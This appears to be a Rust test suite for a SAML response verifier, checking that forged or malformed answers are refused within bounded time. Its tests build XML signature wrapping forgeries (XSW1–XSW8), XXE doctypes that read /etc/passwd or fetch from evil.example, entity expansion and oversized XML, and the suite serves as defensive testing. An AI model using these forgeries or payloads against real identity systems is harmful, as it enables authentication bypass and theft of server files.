//! Whole answers that deceive, or that try what a reader can bear: each is refused for its own reason,
//! and in bounded time.

use std::time::{Duration, Instant};

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use latchkey_core::Stage::{self, Answered, Signed};
use latchkey_core::saml::response::LARGEST;
use proptest::prelude::*;

use super::message::*;

const EVIL: &str = "mallory@evil.example";

/// An answer with a signed assertion, taken apart.
struct Cut {
    before: String,
    /// The assertion without its signature.
    assertion: String,
    signature: String,
    after: String,
}

impl Cut {
    fn of(message: &str) -> Self {
        let (before, rest) = message.split_once("<saml:Assertion").unwrap();
        let (assertion, after) = rest.split_once("</saml:Assertion>").unwrap();
        let assertion = format!("<saml:Assertion{assertion}</saml:Assertion>");
        let signature = element(&assertion, "ds:Signature");
        Self {
            before: before.to_owned(),
            assertion: assertion.replace(&signature, ""),
            signature,
            after: after.to_owned(),
        }
    }

    /// The same with these assertions in the place of the one.
    fn with(&self, assertions: &str) -> String {
        format!("{}{assertions}{}", self.before, self.after)
    }

    /// What the attacker wrote, with a place for more behind the issuer.
    fn evil(&self, id: &str, more: &str) -> String {
        let issuer = "</saml:Issuer>";
        swapped(&self.assertion, OWNER, EVIL)
            .replacen("ID=\"a\"", &format!("ID=\"{id}\""), 1)
            .replacen(issuer, &format!("{issuer}{more}"), 1)
    }

    fn signed(&self) -> String {
        let issuer = "</saml:Issuer>";
        self.assertion
            .replacen(issuer, &format!("{issuer}{}", self.signature), 1)
    }
}

/// The first element of this name, whole.
fn element(text: &str, name: &str) -> String {
    let start = text.find(&format!("<{name}")).unwrap();
    let close = format!("</{name}>");
    let end = start + text[start..].find(&close).unwrap() + close.len();
    text[start..end].to_owned()
}

/// The eight wrappings of SAML Raider and their kin, for a signed assertion.
#[test]
fn a_wrapped_assertion_is_refused() {
    let cut = Cut::of(&signed(ANSWER));
    let (original, signature) = (&cut.assertion, &cut.signature);
    let inside = |signature: &str, what: &str| {
        signature.replace("</ds:Signature>", &format!("{what}</ds:Signature>"))
    };
    let object = |what: &str| format!("<ds:Object>{what}</ds:Object>");
    let within = |evil: String, what: &str| {
        evil.replace("</saml:Assertion>", &format!("{what}</saml:Assertion>"))
    };
    let cases: Vec<(&str, String, Stage, &str)> = vec![
        (
            "XSW3, the forged one before",
            cut.with(&(cut.evil("e", "") + &cut.signed())),
            Answered,
            "assertion_twice",
        ),
        (
            "XSW3 turned round",
            cut.with(&(cut.signed() + &cut.evil("e", ""))),
            Answered,
            "assertion_twice",
        ),
        (
            "XSW4, the original inside the forged one",
            cut.with(&within(cut.evil("e", ""), &cut.signed())),
            Signed,
            "assertion_misplaced",
        ),
        (
            "XSW5, the signature in the forged one",
            cut.with(&(cut.evil("e", signature) + original)),
            Answered,
            "assertion_twice",
        ),
        (
            "XSW6, the original inside the signature",
            cut.with(&cut.evil("e", &inside(signature, original))),
            Signed,
            "assertion_misplaced",
        ),
        (
            "XSW7, the forged one in Extensions",
            cut.with(&format!(
                "<samlp:Extensions>{}</samlp:Extensions>{}",
                cut.evil("e", ""),
                cut.signed()
            )),
            Signed,
            "assertion_misplaced",
        ),
        (
            "XSW8, the original in an Object",
            cut.with(&cut.evil("e", &inside(signature, &object(original)))),
            Signed,
            "signature_has_object",
        ),
        (
            "the same ID twice",
            cut.with(&(cut.evil("a", "") + &cut.signed())),
            Signed,
            "id_twice",
        ),
        (
            "the signature of another",
            cut.with(&cut.evil("e", signature)),
            Signed,
            "reference_elsewhere",
        ),
        (
            "the signature of what had this ID",
            cut.with(&cut.evil("a", signature)),
            Signed,
            "signed_content_changed",
        ),
        (
            "the signature beside the assertion",
            cut.with(&format!("{signature}{}", cut.evil("e", ""))),
            Signed,
            "reference_elsewhere",
        ),
        (
            "the assertion of another namespace",
            cut.with(&format!("{}<x:Assertion xmlns:x=\"urn:x\"/>", cut.signed())),
            Signed,
            "assertion_of_other_namespace",
        ),
        (
            "one in the clear, one encrypted",
            cut.with(&format!("<saml:EncryptedAssertion/>{}", cut.signed())),
            Answered,
            "assertion_twice",
        ),
        (
            "an ID that is another's",
            cut.with(&cut.evil("e\" samlp:ID=\"a", signature)),
            Signed,
            "reference_elsewhere",
        ),
    ];
    for (name, message, stage, code) in cases {
        println!("{name}");
        refused(message, stage, code);
    }
}

#[test]
fn the_original_is_found_wherever_it_is_hidden() {
    let cut = Cut::of(&signed(ANSWER));
    for signature in ["", &cut.signature] {
        let evil = cut.evil("e", signature);
        let hidden = if signature.is_empty() {
            cut.signed()
        } else {
            cut.assertion.clone()
        };
        let put = |at: &str| cut.with(&evil.replacen(at, &format!("{at}{hidden}"), 1));
        for message in [
            cut.with(&format!(
                "<samlp:Extensions>{hidden}</samlp:Extensions>{evil}"
            )),
            cut.with(&format!("<Object>{hidden}</Object>{evil}")),
            cut.with(&evil).replacen(
                "</samlp:Status>",
                &format!("<samlp:StatusDetail>{hidden}</samlp:StatusDetail></samlp:Status>"),
                1,
            ),
            cut.with(&evil)
                .replacen("<samlp:Status>", &format!("<samlp:Status>{hidden}"), 1),
            cut.with(&evil)
                .replacen("<saml:Issuer>", &format!("<saml:Issuer>{hidden}"), 1),
            put("nameid-format:emailAddress\">"),
            put("<saml:AttributeValue>"),
            put("<saml:Subject>"),
            put("T18:04:00Z\">"),
            put("<saml:AuthnContext>"),
        ] {
            refused(message, Signed, "assertion_misplaced");
        }
    }
    let in_key_info = cut.signature.replace(
        "</ds:Signature>",
        &format!("<ds:KeyInfo>{}</ds:KeyInfo></ds:Signature>", cut.assertion),
    );
    refused(
        cut.with(&cut.evil("e", &in_key_info)),
        Signed,
        "assertion_misplaced",
    );
}

/// XSW1 and XSW2: a forged Response around the one that was signed.
#[test]
fn a_wrapped_response_is_refused() {
    let message = response_signed(ANSWER);
    let signature = element(&message, "ds:Signature");
    let original = message.replace(&signature, "");
    let forged = |more: &str| {
        let issuer = "</saml:Issuer>";
        swapped(&original, OWNER, EVIL)
            .replacen("ID=\"r\"", "ID=\"e\"", 1)
            .replacen("ID=\"a\"", "ID=\"b\"", 1)
            .replacen(issuer, &format!("{issuer}{more}"), 1)
    };
    let inside = signature.replace("</ds:Signature>", &format!("{original}</ds:Signature>"));
    refused(forged(&inside), Signed, "assertion_misplaced");
    refused(
        forged(&format!("{original}{signature}")),
        Signed,
        "assertion_misplaced",
    );
    refused(
        forged(&format!("<samlp:Extensions>{message}</samlp:Extensions>")),
        Signed,
        "assertion_misplaced",
    );
    refused(forged(&signature), Signed, "reference_elsewhere");
    let same = forged(&signature).replacen("ID=\"e\"", "ID=\"r\"", 1);
    refused(same, Signed, "signed_content_changed");
    // The signature of the Response does not speak for what is put into it later, nor for the frame.
    let later = message.replacen("</samlp:Response>", "<x/></samlp:Response>", 1);
    refused(later, Signed, "signed_content_changed");
    refused(
        swapped(&message, "\"s1\"", "\"s2\""),
        Signed,
        "signed_content_changed",
    );
}

#[test]
fn a_signature_over_something_else_proves_nothing() {
    let status = changed("<samlp:Status>", "<samlp:Status ID=\"s\">");
    let status = crate::signed::Signing::default().sign(&status, "s");
    refused(status, Signed, "signature_misplaced");
    let cut = Cut::of(&signed(ANSWER));
    refused(cut.with(&cut.assertion), Signed, "saml_unsigned");
    let emptied = cut.signed().replace(
        &element(&cut.signature, "ds:SignatureValue"),
        "<ds:SignatureValue/>",
    );
    refused(cut.with(&emptied), Signed, "signature_value_empty");
    let halved = cut
        .signed()
        .replace(&element(&cut.signature, "ds:SignedInfo"), "");
    refused(cut.with(&halved), Signed, "signature_form");
}

#[test]
fn every_single_value_that_is_changed_is_noticed() {
    for message in [signed(ANSWER), response_signed(ANSWER), both_signed(ANSWER)] {
        for (from, to) in [
            (OWNER, EVIL),
            ("SecOps", "Owners"),
            ("torq.io<", "torq.iO<"),
            ("2026-11-22T18:04:00Z", "2026-11-22T19:04:00Z"),
            ("\"groups\"", "\"email\""),
            ("SessionIndex=\"s1\"", "SessionIndex=\"s2\""),
            ("<saml:AuthnContext>", "<saml:AuthnContext><!-- x --> "),
        ] {
            refused(
                swapped(&message, from, to),
                Signed,
                "signed_content_changed",
            );
        }
        // What changes no meaning changes no verdict.
        assert!(
            accepted(&swapped(
                &message,
                "<saml:AuthnContext>",
                "<saml:AuthnContext ><!-- x -->"
            ))
            .is_empty()
        );
    }
}

#[test]
fn xml_that_readers_differ_about_is_refused_before_it_is_read() {
    let message = signed(ANSWER);
    let declared = |declaration: &str| format!("{declaration}{message}");
    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(message.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    refused(utf16, Answered, "xml_not_utf8");
    let utf16: Vec<u8> = message.encode_utf16().flat_map(u16::to_be_bytes).collect();
    refused(utf16, Answered, "xml_not_utf8");
    for (message, code) in [
        (declared("<!DOCTYPE samlp:Response>"), "xml_has_doctype"),
        (
            declared("<!DOCTYPE r [<!ENTITY x \"y\">]>"),
            "xml_has_doctype",
        ),
        (
            declared("<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"),
            "xml_has_doctype",
        ),
        (
            declared("<!DOCTYPE r [<!ENTITY % x SYSTEM \"http://evil.example/x\"> %x;]>"),
            "xml_has_doctype",
        ),
        (
            declared("<!DOCTYPE r [<!ATTLIST r ID CDATA \"r\">]>"),
            "xml_has_doctype",
        ),
        (
            declared("<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\">"),
            "xml_has_doctype",
        ),
        (
            declared(
                "<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>",
            ),
            "xml_has_doctype",
        ),
        (
            declared("<?xml version=\"1.1\"?>"),
            "xml_version_not_accepted",
        ),
        (
            declared("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>"),
            "xml_not_utf8",
        ),
        (
            swapped(&message, "<saml:Subject>", "<saml:Subject><?x y?>"),
            "xml_has_instruction",
        ),
        (swapped(&message, "SecOps", "Sec\0Ops"), "xml_has_nul"),
        (swapped(&message, "SecOps", "&ops;"), "xml_malformed"),
        (swapped(&message, "SecOps", "Sec\u{1}Ops"), "xml_malformed"),
        (
            swapped(&message, "ID=\"a\"", "ID=\"a\" ID=\"a\""),
            "xml_malformed",
        ),
        (format!("{message}x"), "xml_malformed"),
        (format!("{message}{message}"), "xml_malformed"),
        (message[..message.len() - 20].to_owned(), "xml_malformed"),
        (message[..message.len() / 2].to_owned(), "xml_malformed"),
    ] {
        refused(&message, Answered, code);
        refused(STANDARD.encode(&message), Answered, code);
    }
    // A byte order mark, a declaration and white space around are usual.
    let usual = format!(
        "\u{FEFF}<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n{message}\n"
    );
    assert!(accepted(&usual).is_empty());
}

#[test]
fn what_is_too_much_is_refused_in_bounded_time() {
    let message = signed(ANSWER);
    let signature = Cut::of(&message).signature;
    let attribute = "<saml:Attribute Name=\"groups\">";
    let put = |what: String| swapped(&message, attribute, &format!("{what}{attribute}"));
    let numbered =
        |count: usize, one: &dyn Fn(usize) -> String| (0..count).map(one).collect::<String>();
    for (name, message, code) in [
        (
            "100,000 elements inside each other",
            "<a>".repeat(100_000),
            "xml_too_deep",
        ),
        (
            "the same in the message",
            put("<a>".repeat(1_000)),
            "xml_too_deep",
        ),
        (
            "20,000 attributes",
            put(format!(
                "<a{}/>",
                numbered(20_000, &|n| format!(" a{n}=\"\""))
            )),
            "xml_too_many_attributes",
        ),
        (
            "20,000 namespaces",
            put(format!(
                "<a{}/>",
                numbered(10_000, &|n| format!(" xmlns:a{n}=\"urn:{n}\""))
            )),
            "xml_too_many_attributes",
        ),
        (
            "150,000 elements",
            put("<a/>".repeat(120_000)),
            "xml_too_many_nodes",
        ),
        (
            "half a megabyte",
            put(format!("<!--{}-->", "x".repeat(LARGEST))),
            "saml_answer_too_large",
        ),
    ] {
        let begun = Instant::now();
        refused(&message, Answered, code);
        assert!(
            begun.elapsed() < Duration::from_secs(5),
            "{name}: {:?}",
            begun.elapsed()
        );
    }
    let begun = Instant::now();
    refused(put(signature.repeat(300)), Signed, "signature_misplaced");
    let transforms = "<ds:Transforms>";
    let many = swapped(
        &message,
        transforms,
        &format!(
            "{transforms}{}",
            "<ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/>".repeat(3_000)
        ),
    );
    refused(many, Signed, "transforms_differ");
    let reference = element(&message, "ds:Reference");
    refused(
        swapped(&message, &reference, &reference.repeat(1_000)),
        Signed,
        "reference_twice",
    );
    assert!(
        begun.elapsed() < Duration::from_secs(10),
        "{:?}",
        begun.elapsed()
    );
}

/// 5,000 groups: as large as real answers are.
#[test]
fn a_large_answer_is_read_whole() {
    let groups: String = (0..4_000)
        .map(|number| {
            format!("<saml:AttributeValue>group-{number:05}-of-the-company</saml:AttributeValue>")
        })
        .collect();
    let message = changed(
        "<saml:AttributeValue>Everyone",
        &format!("{groups}<saml:AttributeValue>Everyone"),
    );
    for message in [signed(&message), response_signed(&message)] {
        assert!(message.len() < LARGEST && message.len() > 250_000);
        let verdict = judged(&message);
        assert!(verdict.passed());
        assert_eq!(verdict.claims.values("groups").len(), 4_002);
    }
}

/// One change to a text at a random place.
#[derive(Clone, Debug)]
enum Damage {
    Put(usize, String),
    Cut(usize, usize),
    Copy(usize, usize, usize),
}

fn damage() -> impl Strategy<Value = Damage> {
    let at = 0..10_000_usize;
    prop_oneof![
        (at.clone(), "[a-z<>/\"'&=! :#-]{1,6}").prop_map(|(at, text)| Damage::Put(at, text)),
        (at.clone(), 1..300_usize).prop_map(|(at, length)| Damage::Cut(at, length)),
        (at.clone(), 1..2_000_usize, at)
            .prop_map(|(from, length, to)| Damage::Copy(from, length, to)),
    ]
}

impl Damage {
    fn to(&self, text: &str) -> String {
        let at = |place: usize| place % text.len();
        let end = |from: usize, length: usize| (from + length).min(text.len());
        match self {
            Self::Put(place, new) => format!("{}{new}{}", &text[..at(*place)], &text[at(*place)..]),
            Self::Cut(from, length) => {
                let from = at(*from);
                format!("{}{}", &text[..from], &text[end(from, *length)..])
            }
            Self::Copy(from, length, to) => {
                let (from, to) = (at(*from), at(*to));
                let copy = &text[from..end(from, *length)];
                format!("{}{copy}{}", &text[..to], &text[to..])
            }
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    /// Whatever is done to an answer: if it is accepted, it says what the provider signed.
    #[test]
    fn what_is_accepted_was_signed(which in 0..3_usize, damages in prop::collection::vec(damage(), 1..4)) {
        let message = match which {
            0 => signed(ANSWER),
            1 => response_signed(ANSWER),
            _ => both_signed(ANSWER),
        };
        let damaged = damages.iter().fold(message, |text, one| one.to(&text));
        let verdict = judged(&damaged);
        if verdict.verified {
            let good = judged(&signed(ANSWER));
            prop_assert_eq!(verdict.subject, good.subject);
            prop_assert_eq!(verdict.claims, good.claims);
            prop_assert_eq!(verdict.role, good.role);
        } else {
            prop_assert!(verdict.subject.is_none() && verdict.claims.is_empty() && verdict.role.is_none());
        }
    }

    #[test]
    fn no_bytes_make_it_panic(bytes in prop::collection::vec(any::<u8>(), 0..2_000)) {
        let connection = connection();
        let (assertion, _) = judged_by(&bytes, &expected(&connection), &rules());
        prop_assert!(assertion.is_none());
        let (assertion, _) = judged_by(STANDARD.encode(&bytes).as_bytes(), &expected(&connection), &rules());
        prop_assert!(assertion.is_none());
    }

    #[test]
    fn no_text_around_an_answer_makes_it_panic(before in ".{0,40}", after in ".{0,40}") {
        let encoded = STANDARD.encode(signed(ANSWER));
        for text in [
            format!("{before}SAMLResponse={encoded}{after}"),
            format!("<html>{before}<input name=\"SAMLResponse\" value=\"{after}\">"),
            format!("{before}{encoded}{after}"),
            format!("%{before}%{after}%"),
        ] {
            let verdict = judged(&text);
            prop_assert!(verdict.claims.is_empty() || verdict.claims.first("email") == Some(OWNER));
        }
    }
}
